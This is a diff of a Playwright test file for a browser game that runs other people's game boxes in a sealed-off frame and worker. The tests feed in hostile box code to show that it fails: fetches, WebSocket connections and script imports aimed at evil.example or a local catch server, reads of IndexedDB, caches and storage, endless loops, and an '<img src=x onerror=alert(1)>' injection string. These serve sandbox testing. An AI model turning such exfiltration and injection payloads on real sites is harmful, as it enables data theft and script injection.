@@ -1,6 +1,8 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import type { PackedBox } from '@haven/table/boxes'
 import { expect, type Page, test } from '@playwright/test'
-import { honestBox, ITS_POSITION, lay, otherBox } from './foreign-box.ts'
+import { honestBox, ITS_END, ITS_GAME, lay, otherBox } from './foreign-box.ts'
 import { answers, byPointer, load, playOn, put, theEnd } from './player.ts'
 
 /** Boxes of strangers run sealed off: what they try harms nothing, and they are named. */
@@ -13,25 +15,14 @@ async function visit(page: Page, box: PackedBox): Promise<void> {
 
 const named = (page: Page, name: string) => page.getByRole('heading', { name: `“${name}” was put out` })
 
-/** What the server was asked for, and what left the browser for anywhere else. */
-function watch(page: Page): string[] {
-  const asked: string[] = []
-  page.context().on('request', (request) => {
-    const { pathname, host } = new URL(request.url())
-    if (/^data:/.test(request.url())) return
-    if (/evil/.test(request.url()) || /stolen/.test(pathname)) asked.push(`${host}${pathname}`)
-  })
-  return asked
-}
-
-test('an honest box is played to the end against a bot, and its game goes on after the page was loaded anew', async ({
+test('an honest box is played to the end of a short game against a bot, over a page that was loaded anew', async ({
   page,
 }) => {
   test.slow()
   await visit(page, honestBox())
-  await load(page, ITS_POSITION, 'the heroes')
-  expect(await page.locator('iframe[sandbox="allow-scripts"]').count()).toBe(1)
-  expect(await playOn(page, 7, byPointer, 12)).toBe(12)
+  await load(page, ITS_END, 'the heroes')
+  await expect(page.locator('iframe[sandbox="allow-scripts"]')).toHaveCount(1)
+  expect(await playOn(page, 7, byPointer, 4)).toBe(4)
   await page.reload()
   await expect(answers(page).first()).toBeVisible({ timeout: 30_000 })
   await playOn(page, 8)
@@ -40,9 +31,15 @@ test('an honest box is played to the end against a bot, and its game goes on aft
 
 /** Before the box is made, and whenever its sin is looked at. */
 const first = (code: string) => (script: string) => `(kit) => { ${code}; return (${script})(kit) }`
-/** In a call of a rule: its dice are counted in every fight, and its clock in every view. */
+/** When a game is set up on its map. */
 const inCall = (code: string) => (script: string) =>
-  `(kit) => { const box = (${script})(kit); const stories = box.stories.map((story) => ({ ...story, clock: { get levels() { ${code}; return 1 } } })); return { ...box, stories } }`
+  `(kit) => {
+    const box = (${script})(kit)
+    return { ...box, maps: box.maps.map((map) => ({ ...map, get monsters() { ${code}; return map.monsters } })) }
+  }`
+/** Its map as another one. */
+const withMap = (fields: string) => (script: string) =>
+  `(kit) => { const box = (${script})(kit); return { ...box, maps: box.maps.map((map) => ({ ...map, ${fields} })) } }`
 
 const TRIES = `
 const out = []
@@ -84,17 +81,27 @@ throw new Error('gained: ' + (out.join(', ') || 'nothing'))
 `
 
 test('what it tries to reach is not there: storage, network, time, chance, other code', async ({ page }) => {
-  const asked = watch(page)
   await visit(page, otherBox('Burglar', first(TRIES)))
-  await put(page, ITS_POSITION, 'the heroes')
+  await put(page, ITS_GAME, 'the heroes')
   await expect(named(page, 'Burglar')).toBeVisible()
   await page.getByText('What the program says').click()
   await expect(page.locator('pre')).toHaveText(/gained: nothing/)
-  expect(asked).toEqual([])
 })
 
 test('with the worker unlocked the frame alone keeps storage and network away', async ({ page }) => {
-  const asked = watch(page)
+  // It answers everybody: who asks has come through.
+  const asked: string[] = []
+  const beyond = createServer((request, response) => {
+    asked.push(request.url ?? '')
+    response.writeHead(200, {
+      'access-control-allow-origin': '*',
+      'cross-origin-resource-policy': 'cross-origin',
+      'content-type': 'text/javascript',
+    })
+    response.end('0')
+  })
+  await new Promise<void>((resolve) => beyond.listen(0, '127.0.0.1', resolve))
+  const away = `127.0.0.1:${(beyond.address() as AddressInfo).port}`
   // What would be if our own part let everything stand.
   await page.route('**/assets/cell-*.js', (route) =>
     route.fulfill({
@@ -104,14 +111,14 @@ test('with the worker unlocked the frame alone keeps storage and network away', 
         const note = (name) => [(value) => tell.push(name + ' ' + value), () => tell.push(name + ' no')]
         const attempt = async (name, deed) => { try { await deed().then(...note(name)) } catch { tell.push(name + ' no') } }
         addEventListener('message', async ({ ports: [port] }) => {
-          await attempt('fetch', () => fetch('${new URL('/', 'http://x').pathname}stolen'))
-          await attempt('far', () => fetch('https://evil.example/', { mode: 'no-cors' }))
+          await attempt('fetch', () => fetch('http://${away}/a'))
+          await attempt('far', () => fetch('http://${away}/b', { mode: 'no-cors' }))
           await attempt('indexedDB', () => new Promise((resolve, reject) => { const r = indexedDB.open('haven-tables'); r.onsuccess = () => resolve('open'); r.onerror = reject }))
           await attempt('caches', () => caches.keys())
           await attempt('files', () => navigator.storage.getDirectory())
-          await attempt('socket', () => new Promise((resolve, reject) => { const s = new WebSocket('wss://evil.example/'); s.onopen = resolve; s.onerror = reject }))
-          await attempt('script', async () => importScripts('https://evil.example/x.js'))
-          await attempt('module', () => import('https://evil.example/x.js'))
+          await attempt('socket', () => new Promise((resolve, reject) => { const s = new WebSocket('ws://${away}/c'); s.onopen = resolve; s.onerror = reject }))
+          await attempt('script', async () => importScripts('http://${away}/d.js'))
+          await attempt('module', () => import('http://${away}/e.js'))
           new BroadcastChannel('haven-tables').postMessage({ id: 'stolen', version: 1 })
           port.postMessage(JSON.stringify({ from: 'failed', message: 'gained: ' + tell.join(', ') }))
         })
@@ -126,7 +133,7 @@ test('with the worker unlocked the frame alone keeps storage and network away', 
     const channel = new BroadcastChannel('haven-tables')
     channel.onmessage = ({ data }) => document.documentElement.setAttribute('data-heard', JSON.stringify(data))
   })
-  await put(page, ITS_POSITION, 'the heroes')
+  await put(page, ITS_GAME, 'the heroes')
   await expect(named(page, 'Burglar')).toHaveCount(0)
   await expect(page.getByRole('heading', { level: 1 })).toHaveText(/put out/, { timeout: 20_000 })
   await page.getByText('What the program says').click()
@@ -135,20 +142,25 @@ test('with the worker unlocked the frame alone keeps storage and network away', 
   )
   expect(asked).toEqual([])
   expect(await page.locator('html').getAttribute('data-heard')).toBeNull()
+  beyond.close()
 })
 
 const BREAKS: readonly (readonly [name: string, why: RegExp, make: (script: string) => string])[] = [
   ['Thrower', /broke a rule/, first('throw { toString() { for (;;); } }')],
   ['No Script', /broke a rule/, () => '(kit) => {'],
   ['Breakout', /broke a rule/, () => '0); } function Object() {} (() => { (0'],
-  ['Not a Box', /broke a rule/, () => '(kit) => ({ id: "night-shift", version: "9" })'],
+  ['Not a Box', /broke a rule/, () => '(kit) => ({ id: "low-tide", version: "9" })'],
   ['Patched', /broke a rule/, first('"use strict"; Array.prototype.push = () => 0')],
   ['Endless', /not answered/, first('for (;;);')],
   ['Endless Rule', /not answered/, inCall('for (;;);')],
   ['Endless Promise', /not answered/, first('const again = () => Promise.resolve().then(again); again()')],
   ['Throwing Rule', /broke a rule/, inCall('throw new Error("no")')],
-  ['Nonsense', /makes no sense/, inCall('return 1e9')],
-  ['Words for Numbers', /makes no sense/, inCall('return "<img src=x onerror=alert(1)>"')],
+  [
+    'Markup',
+    /makes no sense/,
+    withMap("metro: map.metro.map((each) => ({ ...each, color: '<img src=x onerror=alert(1)>' }))"),
+  ],
+  ['Nonsense', /makes no sense/, withMap('metro: Array(200).fill(map.metro[0])')],
 ]
 
 for (const [name, why, make] of BREAKS) {
@@ -158,12 +170,47 @@ for (const [name, why, make] of BREAKS) {
     await expect(answers(page).first()).toBeVisible()
     const before = new URL(page.url()).pathname
     await visit(page, otherBox(name, make))
-    await put(page, ITS_POSITION, 'the heroes')
+    await put(page, ITS_GAME, 'the heroes')
     await expect(named(page, name)).toBeVisible({ timeout: 30_000 })
     await expect(page.getByText(why)).toBeVisible()
     await expect(page.locator('iframe')).toHaveCount(0)
     // Another game goes on as if nothing had been.
     await page.goto(`${before}?speed=instant`)
     await expect(answers(page).first()).toBeVisible({ timeout: 30_000 })
+  })
+}
+
+/** Our part of the cell is gone, and this stands in its place: the gate alone is left. */
+async function unlocked(page: Page, body: string): Promise<void> {
+  await page.route('**/assets/cell-*.js', (route) =>
+    route.fulfill({
+      contentType: 'text/javascript',
+      body: `globalThis.havenCell = () => addEventListener('message', ({ ports: [port] }) => {
+        const say = (message) => port.postMessage(typeof message === 'string' ? message : JSON.stringify(message))
+        say({ from: 'locked' })
+        port.onmessage = ({ data }) => { const heard = JSON.parse(data); if (heard.to === 'begin') { say({ from: 'ready' }); ${body} } }
+      })`,
+    }),
+  )
+}
+
+for (const [name, why, body] of [
+  ['Flood', /far too much/, 'for (;;) say({ from: "pong", id: 1 })'],
+  ['Big Words', /far too much/, 'say("x".repeat(50e6))'],
+  ['No Text', /makes no sense/, 'port.postMessage({ from: "pong", get id() { return 1 } })'],
+  ['Fifty', /makes no sense/, 'port.postMessage(new Uint8Array(50e6))'],
+  ['Other Tables', /makes no sense/, 'say({ from: "store", id: 1, ask: { store: "list" } })'],
+] as const) {
+  test(`the gate alone holds: ${name}`, async ({ page }) => {
+    await unlocked(page, body)
+    await visit(
+      page,
+      otherBox(name, (script) => script),
+    )
+    await put(page, ITS_GAME, 'the heroes')
+    await expect(named(page, name)).toBeVisible({ timeout: 30_000 })
+    await expect(page.getByText(why)).toBeVisible()
+    await page.goto('/load')
+    await expect(page.getByText('No saved games yet.')).toBeVisible()
   })
 }
